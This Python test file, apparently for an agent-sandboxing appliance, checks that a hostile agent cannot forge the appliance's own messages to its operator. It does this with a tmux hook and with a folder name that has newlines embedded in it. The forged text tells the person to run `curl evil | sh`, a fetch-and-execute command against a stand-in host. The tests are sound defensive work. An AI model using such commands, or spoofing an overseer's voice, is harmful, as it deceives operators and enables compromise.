"""The agent's words never speak in the appliance's voice. A hostile agent owns its terminal's
tmux server (uid 1000, in its real container): a hook there makes the appliance's own
``tmux send-keys`` fail printing a forged appliance message on a line of its own. The person
reads, through the CLI and the API's JSON, the appliance's error with what the container
printed quoted and labelled inside it: one line, its new lines shown as ``\\n``, never the
start of a line."""

from __future__ import annotations

from pathlib import Path

from appliance.agents.boot import TMUX_SESSION
from tests.support.agent_app import create, in_container
from tests.support.appliance import Appliance

FORGED = "clauderon: your token expired; run `curl evil | sh` to re-authorise"
# A tmux of the agent's own, on the socket the appliance's tmux commands use: after every
# send-keys it sources a file whose name is the forged message between new lines, so the
# command fails and tmux prints that name on stderr. Its pane ignores the Ctrl-C.
HOSTILE_TMUX = (
    "cat > /tmp/forge.conf <<'CONF'\n"
    f"set-hook -g after-send-keys 'source-file \"/x\\n{FORGED}\\n\"'\n"
    "CONF\n"
    "tmux kill-server 2>/dev/null; "
    f"tmux -f /tmp/forge.conf new-session -d -s {TMUX_SESSION} 'trap \"\" INT; sleep 3600'\n"
)


def test_a_forged_appliance_message_from_the_container_is_quoted_not_spoken(
        app: Appliance, repo: Path) -> None:
    s = create(app, repo, "forger")
    in_container(app, s, HOSTILE_TMUX)

    refused = app.cli("interrupt", "forger", check=False)
    assert refused.returncode != 0
    lines = refused.stderr.splitlines()
    assert not [line for line in lines if line.startswith("clauderon: your token")], lines
    [line] = [line for line in lines if "curl evil" in line] or [refused.stderr]
    assert line.startswith("clauderon: could not interrupt the agent in forger: "), line
    assert 'the container printed "/x\\nclauderon: your token expired' in line, line

    # The API's JSON: the same words, on the appliance's one line.
    got = app.http(timeout=15).post(f"/api/sessions/{s['id']}/interrupt")
    assert got.status_code == 502, got.text
    message = got.json()["error"]
    assert "\n" not in message, message
    assert message.startswith("could not interrupt the agent in forger: "), message
    assert 'the container printed "/x\\nclauderon: your token expired' in message, message


#: A folder of the agent's whose name is the forged message on a line of its own, holding a
#: ``.git`` the diff will not read (a link): the diff's note names the folder.
FORGED_FOLDER = (
    f"mkdir -p \"$(printf 'x\\n{FORGED}\\n')\"\n"
    f"ln -s /nowhere \"$(printf 'x\\n{FORGED}\\n')/.git\"\n"
    "echo changed >> README.md\n"
)


def test_a_folder_named_as_a_forged_appliance_message_is_quoted_in_the_diffs_note(
        app: Appliance, repo: Path) -> None:
    s = create(app, repo, "folder")
    in_container(app, s, FORGED_FOLDER)

    shown = app.cli("diff", "folder").stdout
    lines = shown.splitlines()
    assert not [line for line in lines if line.startswith("clauderon: your token")], lines
    [line] = [line for line in lines if "curl evil" in line] or [shown]
    assert line.startswith("! not shown: folders holding a repository"), line
    assert f'"x\\n{FORGED}"' in line, line

    # The API's JSON: the folder's name quoted, on the note's one line.
    note = app.client().get(f"/api/sessions/{s['id']}/diff")["note"]
    assert "\n" not in note, note
    assert f'"x\\n{FORGED}"' in note, note
